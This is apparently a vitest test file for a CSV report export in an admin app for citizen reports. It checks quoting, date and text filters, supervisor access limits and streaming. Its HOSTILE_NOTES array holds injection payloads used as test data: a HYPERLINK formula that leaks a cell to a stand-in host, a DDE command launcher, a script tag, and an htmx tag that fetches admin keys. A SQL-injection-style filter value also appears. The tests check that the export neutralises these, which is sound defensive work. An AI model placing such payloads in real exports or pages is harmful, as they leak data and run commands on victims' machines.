import { eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { auditLog, reports } from '../db/schema.ts'
import { addUnit } from '../src/officers/officers.ts'
import { CSV_BATCH_ROWS, csvCell, csvLine } from '../src/reports/export.ts'
import { createTestApp, givenOfficer, START } from './helpers.ts'
import { givenReport } from './support/reports.ts'
import { givenUser, signIn } from './support/session.ts'

const HOUR = 3600 * 1000
const DAY = 24 * HOUR

async function world() {
  const app = await createTestApp({ config: { rateLimit: false } })
  await addUnit(app.db, { code: 'UID-JTY', name: 'UID Jawa Tengah & DIY', level: 'UID' })
  await addUnit(app.db, { code: 'ULP-JTB', name: 'ULP Jatibarang', level: 'ULP', parentCode: 'UID-JTY' })
  const admin = await givenUser(app, 'admin', null, 'admin-ekspor')
  const supervisor = await givenUser(app, 'supervisor', await givenOfficer(app.services, { unitCode: 'UP3-MTG' }), 'spv-menteng')
  const near = await givenOfficer(app.services, { unitCode: 'ULP-CKN' })
  const far = await givenOfficer(app.services, { unitCode: 'ULP-JTB' })
  return { app, admin, supervisor, near, far }
}

/** RFC 4180 as a spreadsheet reads it: quoted fields may hold commas, quotes, CR and LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (char === '"') quoted = false
      else field += char
    } else if (char === '"') quoted = true
    else if (char === ',') {
      row.push(field)
      field = ''
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i++
    } else field += char
  }
  if (field !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF')
  return rows
}

async function exportCsv(browser: { get: (path: string) => Promise<Response> }, query = ''): Promise<{ res: Response; rows: string[][]; text: string }> {
  const res = await browser.get(`/admin/reports.csv${query}`)
  const bytes = new Uint8Array(await res.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  return { res, text, rows: parseCsv(text.replace(/^\uFEFF/, '')) }
}

const HOSTILE_NOTES = [
  '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
  '+6281234567890',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  'baris satu\r\nbaris dua\n=baris tiga',
  'kata "kutipan", koma',
  '<script>alert(1)</script>',
  '<div hx-get="/admin/keys" hx-trigger="load">x</div>',
]

describe('CSV cells', () => {
  it('quotes every field, doubles quotes and defuses formula starts', () => {
    expect(csvCell('biasa')).toBe('"biasa"')
    expect(csvCell(null)).toBe('""')
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"')
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1`)).toBe(`"'${start}1"`)
    expect(csvCell('1-2')).toBe('"1-2"')
    expect(csvLine(['a', null, 3])).toBe('"a","","3"\r\n')
  })
})

describe('GET /admin/reports.csv', () => {
  it('downloads the reports as UTF-8 CSV with a BOM, every hostile cell inert', async () => {
    const { app, admin, near } = await world()
    const created = await Promise.all(HOSTILE_NOTES.map((note, index) =>
      givenReport(app, { note, location: index === 0 ? '=cmd()' : 'Cikini', category: 'money', verdict: 'valid', officerEmployeeNo: near.employeeNo, createdAt: START + index * 1000 }),
    ))
    const claimed = await givenReport(app, { verdict: 'forged', claims: { sub: '-PLN-1', unt: 'ULP-JTB' }, note: 'Ñoño — ü', createdAt: START + HOUR })
    const browser = await signIn(app, admin.username)
    const { res, rows, text } = await exportCsv(browser)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="laporan-2026-11-23.csv"')
    expect(text.startsWith('\uFEFF"tiket","diterima_wib",')).toBe(true)
    expect(rows[0]).toEqual(['tiket', 'diterima_wib', 'status', 'hasil_pemeriksaan', 'kejadian', 'unit', 'petugas_terverifikasi', 'nomor_induk_diklaim_belum_terverifikasi', 'lokasi', 'catatan_warga'])
    // Newest first.
    expect(rows[1]).toEqual([claimed.ticket, '2026-11-23 10:00', 'new', 'forged', '', 'ULP-JTB', '', "'-PLN-1", '', 'Ñoño — ü'])
    const byTicket = new Map(rows.slice(1).map((row) => [row[0], row]))
    created.forEach((report, index) => {
      const row = byTicket.get(report.ticket)!
      const note = HOSTILE_NOTES[index]!
      expect(row[9], note).toBe(/^[=+\-@\t\r]/.test(note) ? `'${note}` : note)
      expect(row.slice(1, 8)).toEqual(['2026-11-23 09:00', 'new', 'valid', 'money', 'ULP-CKN', near.employeeNo, ''])
    })
    expect(byTicket.get(created[0]!.ticket)![8]).toBe("'=cmd()")
    // No field a spreadsheet would run: each one begins with a quote, and no quoted text begins with a formula sign.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(rows).toHaveLength(1 + created.length + 1)
  })

  it('exports only what the queue filters select', async () => {
    const { app, admin, near } = await world()
    const a = await givenReport(app, { status: 'in_review', verdict: 'forged', category: 'otp', claims: { unt: 'ULP-JTB' }, note: 'diskon 50% jika bayar', createdAt: START - 2 * DAY })
    const b = await givenReport(app, { status: 'new', verdict: 'valid', officerEmployeeNo: near.employeeNo, category: 'money', note: 'diskon 50 ribu', location: 'Cikini', createdAt: START - DAY })
    const c = await givenReport(app, { status: 'new', verdict: null, category: null, location: 'Gondangdia_Baru', createdAt: START })
    const browser = await signIn(app, admin.username)
    const tickets = async (query: string) => (await exportCsv(browser, query)).rows.slice(1).map((row) => row[0])
    expect(await tickets('')).toEqual([c.ticket, b.ticket, a.ticket])
    expect(await tickets('?status=new')).toEqual([c.ticket, b.ticket])
    expect(await tickets('?verdict=forged')).toEqual([a.ticket])
    expect(await tickets('?verdict=none')).toEqual([c.ticket])
    expect(await tickets('?category=money')).toEqual([b.ticket])
    expect(await tickets('?unit=ULP-JTB')).toEqual([a.ticket])
    expect(await tickets('?unit=ULP-CKN')).toEqual([b.ticket])
    // Dates are Jakarta days: the 22nd runs from 17:00 UTC on the 21st.
    expect(await tickets('?from=2026-11-22&to=2026-11-22')).toEqual([b.ticket])
    expect(await tickets('?from=2026-11-22')).toEqual([c.ticket, b.ticket])
    // LIKE wildcards in the search are text: "50%" is not "50 anything".
    expect(await tickets('?q=50%25')).toEqual([a.ticket])
    expect(await tickets('?q=50_ribu')).toEqual([])
    expect(await tickets('?q=dia_B')).toEqual([c.ticket])
    expect(await tickets(`?q=${b.ticket.toLowerCase()}`)).toEqual([b.ticket])
    expect(await tickets('?status=new&category=money&q=diskon')).toEqual([b.ticket])
    // Nonsense filters are ignored, not errors.
    expect(await tickets('?status=hacked&from=2026-13-45&unit=%27%20or%201%3D1')).toEqual([c.ticket, b.ticket, a.ticket])
    const audit = await app.db.select().from(auditLog).where(eq(auditLog.action, 'reports.exported')).all()
    expect(audit.length).toBeGreaterThan(5)
    expect(audit[1]).toMatchObject({ actor: admin.username, subject: 'reports' })
    expect(JSON.parse(audit[1]!.details)).toMatchObject({ status: 'new' })
  })

  it('gives a supervisor only the reports of their units, and refuses officers and households', async () => {
    const { app, supervisor, near, far } = await world()
    const mine = await givenReport(app, { verdict: 'valid', officerEmployeeNo: near.employeeNo })
    const claimedMine = await givenReport(app, { verdict: 'forged', claims: { unt: 'ULP-CKN' } })
    await givenReport(app, { verdict: 'valid', officerEmployeeNo: far.employeeNo })
    await givenReport(app, { verdict: 'forged', claims: { unt: 'ULP-JTB' } })
    await givenReport(app, { verdict: null })
    const spv = await signIn(app, supervisor.username)
    const { rows } = await exportCsv(spv)
    expect(rows.slice(1).map((row) => row[0]).sort()).toEqual([mine.ticket, claimedMine.ticket].sort())
    const officer = await signIn(app, (await givenUser(app, 'officer', near)).username)
    expect((await officer.get('/admin/reports.csv')).status).toBe(403)
    const household = await app.request('/admin/reports.csv')
    expect(household.status).toBe(303)
    expect(household.headers.get('location')).toBe('/login')
  })

  it('streams: the first rows arrive before the later ones are even read from the database', async () => {
    const { app, admin } = await world()
    const total = CSV_BATCH_ROWS * 3 + 7
    const given = Array.from({ length: total }, (_, i) => ({ ticket: `LPR-${String(i).padStart(8, '0')}`, trackingKeyHash: 'h', foldKey: `u:${i}`, note: `catatan ${i}`, createdAt: START - i * 1000, updatedAt: START - i * 1000 }))
    await app.db.transaction(async (tx) => {
      for (let i = 0; i < given.length; i += 500) await tx.insert(reports).values(given.slice(i, i + 500))
    })
    const browser = await signIn(app, admin.username)
    const res = await browser.get('/admin/reports.csv')
    expect(res.body).toBeInstanceOf(ReadableStream)
    const reader = res.body!.getReader()
    const decoder = new TextDecoder()
    let text = ''
    // Read until the first batch of rows is in.
    while (!text.includes('catatan 0"')) {
      const { value, done } = await reader.read()
      if (done) break
      text += decoder.decode(value, { stream: true })
    }
    expect(text).not.toContain(`catatan ${total - 1}"`)
    // Changed after the download began: a buffered export could not contain this.
    await app.db.update(reports).set({ note: 'DIUBAH SETELAH UNDUHAN MULAI' }).where(eq(reports.ticket, `LPR-${String(total - 1).padStart(8, '0')}`)).run()
    for (;;) {
      const { value, done } = await reader.read()
      if (done) break
      text += decoder.decode(value, { stream: true })
    }
    const rows = parseCsv(text.replace(/^\uFEFF/, ''))
    expect(rows).toHaveLength(total + 1)
    expect(rows[total]![9]).toBe('DIUBAH SETELAH UNDUHAN MULAI')
    expect(new Set(rows.slice(1).map((row) => row[0])).size).toBe(total)
  })

  it('lets households keep filing reports while an export is being downloaded', async () => {
    const { app, admin } = await world()
    for (let i = 0; i < CSV_BATCH_ROWS + 5; i++) await givenReport(app, { createdAt: START - i * 1000 })
    const browser = await signIn(app, admin.username)
    const reader = (await browser.get('/admin/reports.csv')).body!.getReader()
    await reader.read()
    await reader.read()
    // With a statement left open, better-sqlite3 would refuse this write ("connection is busy").
    const filed = await app.request('/api/v1/reports', { method: 'POST', body: JSON.stringify({ code: 'ABCD-EFGH' }), headers: { 'content-type': 'application/json' } })
    expect(filed.status).toBe(201)
    await reader.cancel()
  })
})
